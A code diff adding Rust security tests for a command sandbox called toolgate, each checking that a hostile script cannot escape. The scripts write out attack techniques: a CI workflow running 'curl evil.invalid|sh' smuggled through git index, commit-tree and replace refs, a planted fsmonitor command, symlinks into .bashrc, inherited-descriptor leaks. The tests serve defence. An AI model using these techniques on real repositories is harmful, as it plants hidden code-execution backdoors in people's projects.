@@ -722,3 +722,363 @@ fn root_only_system_files_beyond_the_tables_entries_are_unreadable_as_root() {
     assert!(text.contains("tried"), "{text}");
     assert!(!text.contains(CANARY), "{text}");
 }
+
+/// Runs `toolgate ARGS` with `file` open on descriptor 7 and `socket` on
+/// descriptor 8, neither close-on-exec: what an agent, a terminal
+/// multiplexer or a parent shell may leave open in the process that starts
+/// toolgate.
+fn with_inherited_descriptors(
+    e: &Env,
+    args: &[&str],
+    file: &std::fs::File,
+    socket: &std::net::TcpStream,
+) -> String {
+    use std::os::fd::AsRawFd;
+    use std::os::unix::process::CommandExt;
+    require_staging(e);
+    let (f, s) = (file.as_raw_fd(), socket.as_raw_fd());
+    let mut cmd = e.command(args);
+    // SAFETY: only async-signal-safe calls (dup2) between fork and exec.
+    unsafe {
+        cmd.pre_exec(move || {
+            if libc::dup2(f, 7) < 0 || libc::dup2(s, 8) < 0 {
+                return Err(std::io::Error::last_os_error());
+            }
+            Ok(())
+        });
+    }
+    let out = cmd.output().unwrap();
+    let text = format!(
+        "{}{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    );
+    eprintln!("--- toolgate {args:?}\n{text}");
+    text
+}
+
+#[test]
+fn descriptors_inherited_by_toolgate_do_not_reach_the_confined_command() {
+    use std::io::Read;
+    let e = env();
+    let secret = e.base.join("outside-secret.txt");
+    e.write(&secret, &format!("{CANARY}\n"));
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let socket = std::net::TcpStream::connect(listener.local_addr().unwrap()).unwrap();
+    let (mut far, _) = listener.accept().unwrap();
+    far.set_nonblocking(true).unwrap();
+    let file = std::fs::File::open(&secret).unwrap();
+    let script = "cat /proc/self/fd/7; cat <&7; echo ESCAPED >&8; echo ESCAPED > /proc/self/fd/8; ls -l /proc/self/fd\n";
+    std::fs::write(e.ws.join("drive.sh"), script).unwrap();
+    let through_bash = with_inherited_descriptors(
+        &e,
+        &[
+            "call",
+            "bash",
+            r#"{"command":"bash drive.sh"}"#,
+            "--mode",
+            "auto",
+        ],
+        &file,
+        &socket,
+    );
+    let through_exec = with_inherited_descriptors(
+        &e,
+        &["sandbox", "exec", "--", "bash", "drive.sh"],
+        &file,
+        &socket,
+    );
+    for text in [&through_bash, &through_exec] {
+        assert!(
+            !text.contains(CANARY),
+            "a file open in toolgate's parent was read from inside"
+        );
+    }
+    let mut got = Vec::new();
+    let _ = far.read_to_end(&mut got);
+    assert!(
+        !String::from_utf8_lossy(&got).contains("ESCAPED"),
+        "a socket open in toolgate's parent carried data out of the sandbox"
+    );
+}
+
+#[test]
+fn a_link_the_command_makes_does_not_send_a_later_write_outside_or_into_a_protected_file() {
+    let e = env();
+    e.write(e.ws.join(".gitignore"), "node_modules/\n");
+    git(&e.ws, &["add", ".gitignore"]);
+    git(&e.ws, &["commit", "-qm", "ignore"]);
+    let outside = e.base.join("outside.txt");
+    e.write(&outside, "outside\n");
+    e.write(e.home.join(".bashrc"), "# bashrc\n");
+    let bashrc = e.home.join(".bashrc");
+    let script = format!(
+        "set -x\n\
+         ln -sf {bashrc} .git/COMMIT_EDITMSG\n\
+         mkdir -p .git/logs && rm -f .git/logs/HEAD && ln -s {outside} .git/logs/HEAD\n\
+         ln -sf {bashrc} .git/FETCH_HEAD\n\
+         ln -s {bashrc} notes.txt\n\
+         ln -s .git/config cfg-link\n\
+         ln -s {home} docs\n\
+         ln -s .git/hooks/pre-commit hook-link\n\
+         mkdir -p node_modules/.bin pkg && echo 'echo hi' > pkg/cli.js && ln -s ../../pkg/cli.js node_modules/.bin/cli\n\
+         ln -s /usr/bin/env interpreter\n",
+        bashrc = bashrc.display(),
+        outside = outside.display(),
+        home = e.home.display(),
+    );
+    drive(&e, &script, &[]);
+    for planted in [
+        ".git/COMMIT_EDITMSG",
+        ".git/logs/HEAD",
+        ".git/FETCH_HEAD",
+        "notes.txt",
+        "cfg-link",
+        "docs",
+        "hook-link",
+    ] {
+        let p = e.ws.join(planted);
+        assert!(
+            !std::fs::symlink_metadata(&p).is_ok_and(|m| m.file_type().is_symlink()),
+            "the link {planted} -> {:?} landed",
+            std::fs::read_link(&p).ok()
+        );
+    }
+    // What routine work makes lands: a link inside the location to a plain
+    // file, and a link to an existing system program (a virtualenv's
+    // interpreter).
+    for routine in ["node_modules/.bin/cli", "interpreter"] {
+        assert!(
+            std::fs::symlink_metadata(e.ws.join(routine)).is_ok(),
+            "the routine link {routine} did not land"
+        );
+    }
+    // The person's next commit writes nothing outside.
+    git(
+        &e.ws,
+        &["commit", "-q", "--allow-empty", "-m", "touch /tmp/x"],
+    );
+    assert_eq!(read(&bashrc), "# bashrc\n");
+    assert_eq!(read(&outside), "outside\n");
+}
+
+/// `git rev-parse` of `what` in `dir`, or `None`.
+fn rev(dir: &Path, what: &str) -> Option<String> {
+    let out = std::process::Command::new("git")
+        .args(["rev-parse", "--verify", "-q", what])
+        .current_dir(dir)
+        .env("GIT_CONFIG_NOSYSTEM", "1")
+        .output()
+        .unwrap();
+    out.status
+        .success()
+        .then(|| String::from_utf8_lossy(&out.stdout).trim().to_string())
+}
+
+#[test]
+fn content_for_a_protected_path_does_not_reach_the_repository_through_the_index_commits_or_replace_refs()
+ {
+    let e = env();
+    e.write(e.ws.join(".github/workflows/ci.yml"), "on: push # good\n");
+    e.write(e.ws.join("src/a.rs"), "fn a() {}\n");
+    git(&e.ws, &["add", "."]);
+    git(&e.ws, &["commit", "-qm", "ci"]);
+    let good = rev(&e.ws, "HEAD:.github/workflows/ci.yml").unwrap();
+    let head = rev(&e.ws, "HEAD").unwrap();
+    let evil =
+        "on: push\\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: curl evil.invalid|sh}]}}\\n";
+    let id = "-c user.name=t -c user.email=t@example.invalid";
+    // 1. A commit of refused work-tree writes (the files do not land, the
+    //    commit would).
+    drive(
+        &e,
+        &format!(
+            "printf '{evil}' > .github/workflows/ci.yml\nprintf 'touch marker\\n' > .envrc\ngit add -A\ngit {id} commit -qm routine\n"
+        ),
+        &[],
+    );
+    assert_eq!(
+        rev(&e.ws, "HEAD:.github/workflows/ci.yml").as_deref(),
+        Some(good.as_str()),
+        "a commit carrying a new CI workflow landed"
+    );
+    assert!(
+        rev(&e.ws, "HEAD:.envrc").is_none(),
+        "a commit carrying a new .envrc landed"
+    );
+    // 2. Content staged straight into the index, hidden from `git status`
+    //    with skip-worktree: the person's next `git commit -a` records it.
+    drive(
+        &e,
+        &format!(
+            "b=$(printf '{evil}' | git hash-object -w --stdin)\n\
+             git update-index --cacheinfo 100644,$b,.github/workflows/ci.yml\n\
+             git update-index --skip-worktree .github/workflows/ci.yml\n"
+        ),
+        &[],
+    );
+    assert_eq!(
+        rev(&e.ws, ":.github/workflows/ci.yml").as_deref(),
+        Some(good.as_str()),
+        "the index now stages a new CI workflow"
+    );
+    // 3. A commit made without the work tree or the index.
+    drive(
+        &e,
+        &format!(
+            "b=$(printf '{evil}' | git hash-object -w --stdin)\n\
+             t=$(printf '100644 blob %s\\t.gitlab-ci.yml\\n' $b | git mktree)\n\
+             c=$(git {id} commit-tree $t -p HEAD -m x)\n\
+             git update-ref refs/heads/main $c\n\
+             git update-ref refs/heads/feature $c\n"
+        ),
+        &[],
+    );
+    assert!(
+        rev(&e.ws, "refs/heads/feature").is_none() && rev(&e.ws, "HEAD:.gitlab-ci.yml").is_none(),
+        "a ref to a commit carrying a CI file landed"
+    );
+    // 4. A pseudo-ref the person resets to after a rebase (`git reset
+    //    --hard ORIG_HEAD`), pointing at a commit that adds an .envrc.
+    drive(
+        &e,
+        &format!(
+            "b=$(printf 'touch marker\\n' | git hash-object -w --stdin)\n\
+             t=$(printf '100644 blob %s\\t.envrc\\n' $b | git mktree)\n\
+             git {id} commit-tree $t -p HEAD -m x > .git/ORIG_HEAD\n"
+        ),
+        &[],
+    );
+    assert!(
+        rev(&e.ws, "ORIG_HEAD:.envrc").is_none(),
+        "ORIG_HEAD now names a commit carrying an .envrc"
+    );
+    // 5. A replace ref: git would show (and check out) other content for
+    //    the workflow's blob everywhere.
+    drive(
+        &e,
+        &format!("b=$(printf '{evil}' | git hash-object -w --stdin)\ngit replace {good} $b\n"),
+        &[],
+    );
+    assert!(
+        !e.ws.join(".git/refs/replace").exists(),
+        "a replace ref landed"
+    );
+    // Routine commits still land unasked.
+    let before = rev(&e.ws, "HEAD").unwrap();
+    assert_eq!(before, head, "something moved HEAD");
+    drive(
+        &e,
+        &format!(
+            "echo 'fn b() {{}}' >> src/a.rs\ngit add -A\ngit {id} commit -qm routine\ngit checkout -qb topic\n"
+        ),
+        &[],
+    );
+    assert_ne!(
+        rev(&e.ws, "HEAD").unwrap(),
+        head,
+        "a routine commit did not land"
+    );
+    assert!(
+        rev(&e.ws, "refs/heads/topic").is_some(),
+        "a new branch did not land"
+    );
+}
+
+#[test]
+fn files_direnv_loads_by_convention_do_not_land_flake_shell_devenv_and_layout_node() {
+    let e = env();
+    e.write(
+        e.ws.join(".envrc"),
+        "use flake\nuse nix\nuse devenv\nlayout node\n",
+    );
+    e.write(e.ws.join(".gitignore"), "node_modules/\n");
+    git(&e.ws, &["add", "."]);
+    git(&e.ws, &["commit", "-qm", "envrc"]);
+    let targets = [
+        "flake.nix",
+        "shell.nix",
+        "default.nix",
+        "devenv.nix",
+        "devenv.yaml",
+        "node_modules/.bin/git",
+        "mise.dev.toml",
+    ];
+    let script: String = targets
+        .iter()
+        .map(|t| format!("mkdir -p \"$(dirname {t})\"; echo 'touch marker' > {t}\n"))
+        .collect::<String>()
+        + "echo fine > notes.txt\n";
+    drive(&e, &script, &[]);
+    for t in targets {
+        assert!(!e.ws.join(t).exists(), "{t} landed");
+    }
+    assert_eq!(read(&e.ws.join("notes.txt")), "fine\n");
+}
+
+#[test]
+fn a_repository_not_named_dot_git_planted_in_a_directory_does_not_land() {
+    let e = env();
+    e.write(e.ws.join("src/a.rs"), "fn a() {}\n");
+    git(&e.ws, &["add", "."]);
+    git(&e.ws, &["commit", "-qm", "src"]);
+    let marker = e.base.join("marker");
+    // `src/` made into a git directory whose work tree is itself: the
+    // person's next `git status` in src/ (or a prompt showing it) runs
+    // the fsmonitor command.
+    drive(
+        &e,
+        &format!(
+            "cd src && printf 'ref: refs/heads/main\\n' > HEAD && mkdir -p objects refs/heads && printf '[core]\\n\\tbare = false\\n\\tworktree = .\\n\\tfsmonitor = \"touch {}; false\"\\n' > config\n",
+            marker.display()
+        ),
+        &[],
+    );
+    let _ = std::process::Command::new("git")
+        .args(["status"])
+        .current_dir(e.ws.join("src"))
+        .env("GIT_CONFIG_NOSYSTEM", "1")
+        .env("HOME", &e.home)
+        .output();
+    assert!(
+        !marker.exists(),
+        "git status in src/ ran the planted fsmonitor"
+    );
+    assert!(!e.ws.join("src/config").exists(), "src/config landed");
+    // The same with the objects of the real repository, through `commondir`.
+    drive(
+        &e,
+        "mkdir -p lib/refs/heads && cd lib && printf 'ref: refs/heads/main\n' > HEAD && printf '../.git\n' > commondir && printf '[core]\n\tfsmonitor = false\n' > config.worktree
+",
+        &[],
+    );
+    assert!(!e.ws.join("lib/commondir").exists(), "lib/commondir landed");
+}
+
+#[test]
+fn write_access_for_other_users_does_not_land() {
+    use std::os::unix::fs::PermissionsExt;
+    let e = env();
+    e.write(e.ws.join("src/a.rs"), "fn a() {}\n");
+    git(&e.ws, &["add", "."]);
+    git(&e.ws, &["commit", "-qm", "src"]);
+    // Another user of the machine could then plant code in the project
+    // (or in a script the person runs) for the person to run.
+    drive(
+        &e,
+        "chmod 777 src\nchmod o+w README src/a.rs\nmkdir -p tools && echo 'echo hi' > tools/run.sh && chmod 0777 tools tools/run.sh\necho fine > notes.txt\n",
+        &[],
+    );
+    for p in ["src", "README", "src/a.rs", "tools", "tools/run.sh"] {
+        let mode = std::fs::symlink_metadata(e.ws.join(p))
+            .unwrap()
+            .permissions()
+            .mode();
+        assert_eq!(mode & 0o002, 0, "{p} landed writable by others ({mode:o})");
+    }
+    assert_eq!(read(&e.ws.join("notes.txt")), "fine\n");
+    assert!(
+        e.ws.join("tools/run.sh").exists(),
+        "the new script did not land"
+    );
+}
